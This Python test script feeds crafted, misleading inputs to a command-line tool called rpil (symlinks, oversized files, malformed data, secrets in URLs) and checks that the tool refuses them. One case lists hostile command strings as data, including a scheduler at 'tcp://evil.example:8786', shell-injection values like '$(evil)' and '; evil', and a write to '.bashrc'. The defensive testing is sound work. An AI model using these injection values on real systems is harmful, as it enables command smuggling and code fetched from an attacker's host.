"""Gives rpil small files and situations that were made to mislead it, and says where it does not end as it should.

Usage
-----
``python tools/crafted_files.py`` tries all cases and prints a line for each: "as it should be", or what differed.
``--list`` names them, and ``--only NAME,NAME`` takes some. The exit code is 1 where one differs. All take less than a
minute, and need what ``pip install .[dev]`` brings. Set PYTHONPATH to the ``src`` to test.

Notes
-----
Each case has an empty folder of its own, which is also the current one. Commands run in this process; `rpil review`
runs as a process where its arguments, its end or its locks matter.
"""

from __future__ import annotations

import argparse
import http.client
import itertools
import json
import os
import re
import shlex
import shutil
import signal
import socket
import stat
import subprocess
import sys
import time
import warnings
import zipfile
from collections.abc import Callable, Iterable, Iterator, Sequence
from contextlib import chdir, contextmanager
from dataclasses import dataclass
from pathlib import Path
from tempfile import TemporaryDirectory

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
from click.testing import CliRunner, Result

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tests"))

import asked
import lerobot_folders
import rpil
from rpil.cli.commands import CommandSettings
from rpil.cli.main import main as command
from rpil.cli.progress import ProgressTiming
from rpil.cli.questions.frames import Videos

DATA = "d.parquet"
COLUMNS = ("--observations", "x,v", "-q")
"""Of what `asked.write` writes."""
SECONDS, DEADLY_SECONDS = 2, 20
"""Of processor time that a refusal may take; and after which a server that does not answer is given up."""
MANY_LETTERS, MANY_LISTS, MANY_COLUMNS = 100_000, 2 * 10**6 + 10, 50_001
LONGEST_MESSAGE = 600

Found = str | None
"""What differed, or None."""


def call(*words: str, **options: object) -> Result:
    """A command in this process, without lines about progress."""
    settings = CommandSettings(ProgressTiming(first=1e3))
    return CliRunner().invoke(command, words, obj=settings, **options)


def refused(result: Result, words: str) -> Found:
    """What differs from a refusal in one short sentence with these words."""
    said = result.stderr
    if result.exit_code != 2 or not re.fullmatch(r"rpil: [^\n]+\n", said):
        return f"a refusal was expected: code {result.exit_code}, {result.exception!r:.80}, {said[-200:]!r}"
    if len(said) > LONGEST_MESSAGE:
        return f"a sentence of {len(said):,} characters: {said[:60]!r}..."
    return None if words in said else f"{words!r} is not in {said!r}"


def accepted(result: Result) -> Found:
    """What differs from a command that succeeds."""
    return f"code {result.exit_code}: {result.stderr[-300:]!r}" if result.exit_code else None


def told(wrong: dict[str, object]) -> Found:
    """The sentences of which the value is true."""
    return "; ".join(sentence for sentence, is_so in wrong.items() if is_so) or None


def first(found: Iterable[Found]) -> Found:
    """The first that differed; no more are tried."""
    return next(filter(None, found), None)


@dataclass(frozen=True)
class Page:
    """The page of a review that runs as a process, and requests to it with its token."""

    process: subprocess.Popen[str]
    port: int
    token: str

    def ask(self, path: str, **posted: object) -> tuple[int, dict[str, object]]:
        """The status and the answer; status 0 where none comes."""
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=DEADLY_SECONDS)
        headers = {"x-rpil-token": self.token, "origin": f"http://127.0.0.1:{self.port}"}
        headers |= {"content-type": "application/json"}
        try:
            connection.request(
                "POST" if posted else "GET", f"/api/{path}", json.dumps(posted) if posted else None, headers
            )
            answer = connection.getresponse()
            return answer.status, json.loads(answer.read())
        except (OSError, ValueError, http.client.HTTPException) as error:
            return 0, {"error": repr(error)}
        finally:
            connection.close()

    def answer(self, version: object, key: str, m: int) -> int:
        return self.ask("answer", version=version, key=key, demonstrations=[m])[0]

    def break_off(self) -> None:
        """Go away in the middle of an answer."""
        with socket.create_connection(("127.0.0.1", self.port)) as at:
            host = f"127.0.0.1:{self.port}"
            head = (
                f"POST /api/answer HTTP/1.1\r\nhost: {host}\r\norigin: http://{host}\r\nx-rpil-token: {self.token}\r\n"
            )
            at.sendall(f"{head}content-type: application/json\r\ncontent-length: 90\r\n\r\n{{".encode())
            time.sleep(0.2)

    def end(self) -> tuple[str, str]:
        """What it prints at the end, after Ctrl-C; it is killed, and says so, where that does not end it."""
        self.process.send_signal(signal.SIGINT)
        try:
            return self.process.communicate(timeout=DEADLY_SECONDS)
        except subprocess.TimeoutExpired:
            self.process.kill()
            return self.process.communicate()[0], "Ctrl-C did not end it"


@contextmanager
def reviewing(*words: str, **variables: str) -> Iterator[Page]:
    """``rpil review`` of `DATA` as a process, with other `variables` of the environment."""
    asked.write(DATA)
    start = [sys.executable, "-c", "from rpil.cli.entry import main; main()", "review", DATA, *COLUMNS, *words]
    pipes = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE, "text": True}
    with subprocess.Popen(start, env=os.environ | variables, **pipes) as process:
        try:
            lines = itertools.takewhile(bool, iter(process.stdout.readline, None))
            address = next(filter(None, (re.search(r":(\d+)/\?token=(\S+)", line) for line in lines)), None)
            if address is None:
                raise RuntimeError(process.stderr.read())
            yield Page(process, int(address[1]), address[2])
        finally:
            process.kill()


def order_of_demonstrations(folder: Path) -> Found:
    """Another order in the file changes no finding, word, doubt or pair."""
    n, n_steps = 11, 35
    for seed in (12, 14, 20):
        rng, owner = np.random.default_rng(seed), np.repeat(np.arange(n), n_steps)
        observations, is_bad = rng.normal(size=(len(owner), 4)), owner >= n - 4
        actions = np.argmax(2 * observations[:, :3] + rng.gumbel(size=(len(owner), 3)), axis=1)
        actions[is_bad] = rng.integers(0, 3, is_bad.sum())
        data, said = rpil.Demonstrations.from_groups(observations, actions, owner), []
        for k in range(4):
            audit = rpil.RPIL(random_state=0).fit(data.select(np.random.default_rng(k).permutation(n))).audit_
            words = sorted(zip(audit.ids, audit.verdicts, strict=True))
            said.append({"finding": audit.finding, "words": words, "doubts": audit.doubts, "pair": audit.pair})
        for part in said[0]:
            if any(one[part] != said[0][part] for one in said):
                return f"of data {seed} the {part} is {' or '.join(dict.fromkeys(str(one[part]) for one in said))}"
    return None


def files_beside_the_labels(folder: Path) -> Found:
    """Finish replaces nothing that another wrote, unless the user agrees, and writes through no link."""
    own = [
        folder / name for name in ("keep.json", "verdicts.csv", "weights.parquet", "labels-verdicts.csv", "precious")
    ]
    for path in own:
        path.write_text("MINE")
    (folder / "labels-keep.json").symlink_to("precious")
    with reviewing("--no-browser") as page:
        page.answer(0, "g", 1)
        through_link, _ = page.ask("finish", version=1)
        (folder / "labels-keep.json").unlink()
        status, question = page.ask("finish", version=1)
        replaced = [path.name for path in own if path.read_text() != "MINE"]
        page.ask("finish", version=1, replace=question.get("exists", []))
    del own[3]  # which the user agreed to
    replaced += [path.name for path in own if path.read_text() != "MINE"]
    new = [
        name for name in ("keep.json", "verdicts.csv", "weights.parquet") if not (folder / f"labels-{name}").exists()
    ]
    return told(
        {
            f"Finish replaced {', '.join(dict.fromkeys(replaced))}": replaced,
            f"Finish where a link is there had status {through_link}": through_link != 400,
            f"{question} is no question about the file that is there": question.get("exists")
            != ["labels-verdicts.csv"],
            f"files of {', '.join(new)} were not written": new,
        }
    )


def ids_with_white_space(folder: Path) -> Found:
    """Answers about odd ids are read again, by every command that takes labels."""
    ids = [" lead", "trail ", "\u00a0space", "\x85next", "\u2028line", "lead", ",", "=1+1", "007", "7", "a\nb", "\t"]
    asked.write(DATA, len(ids), ids)
    for keys in ("3gbgbgb", "gbgbgb"):  # a run asks eight questions at most
        if wrong := accepted(call("label", DATA, *COLUMNS, input="\n".join([*keys, "q", ""]))):
            return wrong
    audit = call("audit", DATA, "--labels", "labels.csv", "--json", *COLUMNS)
    kept = call("keep", DATA, "--verdicts", "labels.csv", "-o", "kept.parquet")
    if wrong := accepted(audit) or accepted(kept):
        return wrong
    labels = {row["id"]: row.get("label") for row in json.loads(audit.stdout)["demonstrations"]}
    good = {name for name, word in labels.items() if word == "good"}
    there = set(pq.read_table("kept.parquet")["episode_index"].to_pylist())
    unread = [name for name in ids if not labels.get(name)]
    return told({f"labels of {unread} are lost": unread, f"{there} were kept, and {good} are good": there != good})


def options_file_of_many_dots(folder: Path) -> Found:
    """A key of thousands of parts, of which the parser takes the square in memory, is refused before it is parsed."""
    asked.write(DATA)
    texts = {"a." * 5_000 + "b = 1": "8 dots", "[" + "a." * 5_000 + "b]": "8 dots", "a." * 20_000 + "b = 1": "16 KiB"}
    for name, words in (("rpil.toml", ["info", DATA]), ("e.toml", ["check", DATA, "--expected", "e.toml"])):
        for text, reason in texts.items():
            (folder / name).write_text(text)
            start = time.process_time()
            if wrong := refused(call(*words), reason):
                return f"{name}: {wrong}"
            if time.process_time() - start > SECONDS:
                return f"{name} took {time.process_time() - start:.1f} s"
        (folder / name).unlink()
    return None


def table_of_many_columns(folder: Path) -> Found:
    """Time grows with the number of columns and not with its square, and more than 50,000 are refused."""
    taken = []
    for n in (10, 1_000, 8_000, MANY_COLUMNS):  # the first imports what is needed
        names, values = ",".join(f"x{k}" for k in range(n)), ",0.5" * n
        rows = "".join(f"{m // 3},{m % 2}{values}\n" for m in range(6))
        (folder / "wide.csv").write_text(f"episode,action,{names}\n{rows}")
        start = time.process_time()
        result = call("info", "wide.csv") if n < MANY_COLUMNS or taken[2] < 25 * taken[1] else None
        taken.append(time.process_time() - start)
        if wrong := result and (accepted(result) if n < MANY_COLUMNS else refused(result, "50,000 at most")):
            return f"{n:,} columns: {wrong}"
    slow = f"1,000 columns took {taken[1]:.2f} s, and 8,000 {taken[2]:.2f} s"
    return told({slow: taken[2] > 25 * taken[1]})


def _run_file() -> dict[str, object]:
    """What ``rpil audit --save`` writes."""
    asked.write(DATA)
    call("audit", DATA, *COLUMNS, "--save", "run.json")
    return dict(json.loads(Path("run.json").read_text()))


def _report_of(content: str) -> Result:
    Path("hers.json").write_text(content)
    return call("report", "hers.json", "-o", "page.html")


def command_in_a_run_file(folder: Path) -> Found:
    """A run of another person puts no command on the page that writes, runs or asks another computer for code."""
    run = _run_file()
    hostile = ["audit x.csv --report /home/me/.bashrc", "audit x.csv --report=a", "audit --save x.csv y.csv"]
    hostile += ["audit x.csv --keep a", "audit x.csv --verdicts a.csv", "audit x.csv --weights a.csv"]
    hostile += ["audit x --scheduler tcp://evil.example:8786", "audit x --scheduler=tcp://evil.example:8786"]
    hostile += ["evaluate x.py:f", "keep x.csv -o x.csv", "--install-completion bash", "audit x.csv; evil"]
    hostile += ["audit $(evil)", "audit 'x\n'"]
    for words in hostile:
        if wrong := refused(_report_of(json.dumps(run | {"command": f"rpil {words}"})), "command"):
            return f"rpil {words}: {wrong}"
        if (folder / "page.html").exists():
            return f"rpil {words}: a page was written"
    return accepted(_report_of(json.dumps(run)))


def run_file_of_lists(folder: Path) -> Found:
    """Millions of empty lists are refused before they are made."""
    lists = ', "more": [' + "[]," * MANY_LISTS + "[]]}"
    return refused(_report_of(json.dumps(_run_file())[:-1] + lists), "lists and objects")


def _with_video_times(source: Path, new: Path, times: dict[str, pa.Array]) -> str:
    """A copy of a folder of LeRobot in which videos have other times."""
    shutil.copytree(source, new)
    place = new / "meta" / "episodes" / "chunk-000" / "file-000.parquet"
    table = pq.read_table(place)
    for name, values in times.items():
        column = f"videos/observation.images.front/{name}"
        table = table.set_column(table.column_names.index(column), column, values)
    pq.write_table(table, place)
    return new.name


def video_times_that_are_no_numbers(folder: Path) -> Found:
    """They are named: a review shows no videos, and ``rpil keep`` writes nothing, or says what it wrote."""
    n = 5
    plain = lerobot_folders.write(folder / "plain", [8] * n, per_file=n)
    (folder / "labels.csv").write_text("id,label\n1,bad\n")
    keep = ("--verdicts", "labels.csv", "-q", "-o")
    for k, start in enumerate((None, float("nan"), -1e300, float("inf"), "soon")):
        times = {"from_timestamp": pa.array([start] * n, pa.string() if start == "soon" else pa.float64())}
        name = _with_video_times(plain, folder / f"set{k}", times)
        videos = Videos.of(name, range(n), 20.0)
        json.dumps([videos.cameras(m) for m in range(n)], allow_nan=False)  # as the server answers
        if wrong := refused(call("keep", name, *keep, f"kept{k}"), "from_timestamp is"):
            return f"{start}: {wrong}"
        if (folder / f"kept{k}").exists() or "from_timestamp" not in videos.note:
            return f"{start}: a folder was written, or a review says {videos.note!r}"
    times = {"from_timestamp": pa.array([0.0] * n), "to_timestamp": pa.array([2.0] * n)}  # of all episodes
    kept = call("keep", _with_video_times(plain, folder / "long", times), *keep, "kept")
    return accepted(kept) or told({"more frames than rows are not named": "40 frames for 8 rows" not in kept.stderr})


BROWSER = """
import json, pathlib, sys, urllib.parse
page = pathlib.Path(urllib.parse.unquote(urllib.parse.urlsplit(sys.argv[1]).path))
about = [page.read_text(), page.stat().st_mode, page.parent.stat().st_mode] if page.is_file() else []
pathlib.Path("opened.new").write_text(json.dumps([sys.argv[1], *about]))
pathlib.Path("opened.new").rename("opened.json")
"""


def address_of_the_review(folder: Path) -> Found:
    """The token is no argument of a process, which every user of a computer sees, but in a page of this user alone."""
    (folder / "browser.py").write_text(BROWSER)
    browser = shlex.join([sys.executable, str(folder / "browser.py")])
    with reviewing(BROWSER=f"{browser} %s") as page:
        until = time.monotonic() + DEADLY_SECONDS
        while not (folder / "opened.json").exists() and time.monotonic() < until:
            time.sleep(0.05)
        token = page.token
        page.end()
    address, *about = json.loads((folder / "opened.json").read_text())
    text, mode, mode_of_folder = about or ("", 0, 0)
    return told(
        {
            "the token is an argument of the browser": token in address,
            "the page of the browser does not lead to the address": token not in text,
            "others may read the page of the browser": stat.S_IMODE(mode) & 0o77 or stat.S_IMODE(mode_of_folder) & 0o77,
            "the page of the browser is still there": Path(address.removeprefix("file://")).exists(),
        }
    )


def options_written_through_a_link(folder: Path) -> Found:
    """``rpil info --write-options`` writes over no file, and through no link."""
    asked.write(DATA)
    place, elsewhere = folder / "rpil.toml", folder / "elsewhere"
    place.symlink_to(elsewhere)
    wrong = refused(call("info", DATA, "--exclude", "v", "--write-options"), "it is there already")
    if wrong or elsewhere.exists() or not place.is_symlink():
        return wrong or "it wrote where the link leads"
    place.unlink()
    place.write_text("# my own\nid = 'episode_index'\n")
    result = call("info", DATA, "--exclude", "v", "--write-options")
    is_other = "# my own" not in place.read_text()
    return told({"an own file was written over": is_other, f"code {result.exit_code}": result.exit_code != 2})


def secrets_in_addresses(folder: Path) -> Found:
    """They are in no message; and no file that is passed on names the folders of a person."""
    names = "auth authorization pwd pass sas code jwt token access_key X-Amz-Signature".split()
    addresses = [f"https://h.example/x.csv{sign}{name}=HIDDEN" for name in names for sign in "?;#&"]
    addresses += ["https://HIDDEN:HIDDEN@h.example/x.csv", "s3://HIDDEN:HID/HIDDEN@b/x.parquet"]  # of no network
    for address in addresses:
        for words in (["info", address], ["audit", address], ["check", address], ["keep", address, "-o", "k.csv"]):
            result = call(*words)
            if "HIDDEN" in result.output or result.exit_code != 2:
                return f"rpil {words[0]} {address}: code {result.exit_code}, {result.output!r}"
    work = folder / "work"
    work.mkdir()
    asked.write(folder / DATA)
    files = {"--report": "r.html", "--save": "run.json", "--keep": "k.json", "--verdicts": "v.parquet"}
    with chdir(work):
        outputs = [word for option, name in files.items() for word in (option, str(work / name))]
        result = call("audit", str(folder / DATA), *COLUMNS, *outputs, env={"HOME": str(folder)})
        named = [name for name in files.values() if str(folder).encode() in Path(name).read_bytes()]
    return accepted(result) or told({f"the home folder is in {', '.join(named)}": named})


def labels_replaced(folder: Path) -> Found:
    """What stands in the place of the answers is left alone and named, holds nothing up, and Ctrl-C ends the review."""
    path, wrong = folder / "labels.csv", {}
    kinds: dict[str, Callable[[], object]] = {"folder": path.mkdir, "pipe": lambda: os.mkfifo(path)}
    kinds |= {"link": lambda: path.symlink_to("elsewhere"), "file": lambda: path.write_text("id,label\n1,bad\n")}
    with reviewing("--no-browser") as page:
        wrong["the version false counts as 0"] = page.answer(False, "g", 1) != 409
        wrong["a long number is no address that is not there"] = page.ask(f"demonstration/{'9' * 5000}")[0] != 404
        page.break_off()
        wrong["an answer is refused"] = page.answer(0, "g", 1) != 200
        for kind, make in kinds.items():
            path.unlink() if path.is_file() or not path.is_dir() else path.rmdir()
            make()
            status, answer = page.ask("answer", version=1, key="b", demonstrations=[3])
            wrong[f"a {kind} in the place of the labels: {status} {answer}"] = status != 400
        path.unlink()
        wrong["what a link leads to was written"] = (folder / "elsewhere").exists()
        out, err = page.end()
        wrong[f"it ended with {err[-200:]!r}"] = err
        wrong[f"its last line is {out[-80:]!r}"] = "changed or removed labels.csv" not in out
    path.symlink_to("elsewhere")
    wrong["a link to nothing is taken"] = refused(call("label", DATA, *COLUMNS), "a link that leads to nothing")
    return told(wrong)


def observations_that_are_tiny(folder: Path) -> Found:
    """Observations whose squares are no numbers are refused, and do not count as constant."""
    asked.write("whole.parquet")
    table = pq.read_table("whole.parquet")
    finding = rpil.audit("whole.parquet", observations=["x", "v"]).finding
    for size, names in ((1e-300, ["x", "v"]), (1e-300, ["v"]), (1e-100, ["x", "v"])):
        small = {name: table[name].to_numpy() * (size if name in names else 1.0) for name in ("x", "v")}
        pq.write_table(pa.table({name: small.get(name, table[name]) for name in table.column_names}), DATA)
        result = call("audit", DATA, "--json", *COLUMNS)
        if size < 1e-150:
            wrong = refused(result, "smaller units")
        else:
            wrong = accepted(result) or told({"another finding": json.loads(result.stdout)["finding"] != finding})
        if wrong:
            return f"{' and '.join(names)} times {size:g}: {wrong}"
    return None


def very_long_label(folder: Path) -> Found:
    """Of a long text in a file its beginning is quoted."""
    asked.write(DATA)
    long, lists = "x y" * (MANY_LETTERS // 3), [[[]] * 50] * 900
    for labels in ({"1": long}, {"1": lists}, {"1": {long: 0}}, {long: "good"}):
        (folder / "labels.json").write_text(json.dumps(labels))
        if wrong := refused(call("audit", DATA, "--labels", "labels.json", *COLUMNS), "labels"):
            return wrong
    rpil.save(rpil.BehavioralCloning().fit(rpil.read(DATA)), folder / "policy")
    with zipfile.ZipFile("policy") as old, zipfile.ZipFile("other", "w") as new:
        header = json.loads(old.read("header.json")) | {"version": lists}
        for name in old.namelist():
            new.writestr(name, json.dumps(header) if name == "header.json" else old.read(name))
    try:
        rpil.load(folder / "other")
    except rpil.DataError as error:
        return told({f"a sentence of {len(str(error)):,} characters": len(str(error)) > LONGEST_MESSAGE})
    return "a policy of another version was read"


def damaged_video(folder: Path) -> Found:
    """A video with a wrong table of sizes is damaged: permissions are no remedy."""
    root = lerobot_folders.write(folder / "set", [8, 8])
    video = next((root / "videos").rglob("*.mp4"))
    video.write_bytes(video.read_bytes().replace(b"stsz", b"free"))
    said = call("check", "set", "--video").output
    return told({f"it says {said[-300:]!r}": "permission" in said or "a damaged one" not in said})


def damaged_metadata_of_minari(folder: Path) -> Found:
    """They are named, and their folder is not taken for one of other tables."""
    data = folder / "set-v0" / "data"
    (data / "0").mkdir(parents=True)
    pq.write_table(pa.table({"x": [1.0, 2.0], "action": [1.0, 3.0]}), data / "0" / "a.parquet")
    (data / "metadata.json").touch()
    os.truncate(data / "metadata.json", 2**30)  # takes no place on disk
    return refused(call("info", "set-v0"), "metadata.json: it is longer than")


def two_arrays_of_one_name(folder: Path) -> Found:
    """An NPZ file of which readers would take the one or the other is refused."""
    arrays = {"observations": np.eye(4), "actions": np.array([0, 1, 0, 1]), "episode_ids": np.array([0, 0, 1, 1])}
    np.savez(folder / "d.npz", **arrays)
    with zipfile.ZipFile("d.npz", "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of the name that is there
        archive.writestr("observations.npy", archive.read("observations.npy"))
    return first(refused(call(name, "d.npz"), "two arrays of one name") for name in ("info", "audit"))


CASES: dict[str, Callable[[Path], Found]] = {
    "order of demonstrations": order_of_demonstrations,
    "files beside the labels": files_beside_the_labels,
    "ids with white space": ids_with_white_space,
    "options file of many dots": options_file_of_many_dots,
    "table of many columns": table_of_many_columns,
    "command in a run file": command_in_a_run_file,
    "run file of nothing but lists": run_file_of_lists,
    "video times that are no numbers": video_times_that_are_no_numbers,
    "address of the review in the process list": address_of_the_review,
    "options written through a link": options_written_through_a_link,
    "secrets in addresses": secrets_in_addresses,
    "labels file replaced while the review runs": labels_replaced,
    "observations times 1e-300": observations_that_are_tiny,
    "very long label quoted": very_long_label,
    "damaged video": damaged_video,
    "damaged metadata of Minari": damaged_metadata_of_minari,
    "two arrays of one name": two_arrays_of_one_name,
}


def differs(name: str) -> bool:
    """Try a case in a folder of its own, and print what differed."""
    start = time.monotonic()
    with TemporaryDirectory(prefix="rpil-") as folder, chdir(folder):
        try:
            found = CASES[name](Path(folder).resolve())
        except Exception as error:  # of any type: it is what differed
            found = f"it raised {type(error).__name__}: {error!s:.300}"
    print(f"{name}: {found or 'as it should be'} ({time.monotonic() - start:.1f} s)", flush=True)
    return found is not None


def main(words: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--only", metavar="NAME,NAME", help="these cases; --list names them")
    parser.add_argument("--list", action="store_true", help="name the cases, and try none")
    asked_for = parser.parse_args(words)
    names = asked_for.only.split(",") if asked_for.only else [*CASES]
    if unknown := {*names} - {*CASES}:
        parser.error(f"--only: there is no case {', '.join(sorted(unknown))}; see --list")
    if asked_for.list:
        print(*names, sep="\n")
        return 0
    return int(any([differs(name) for name in names]))


if __name__ == "__main__":
    sys.exit(main())
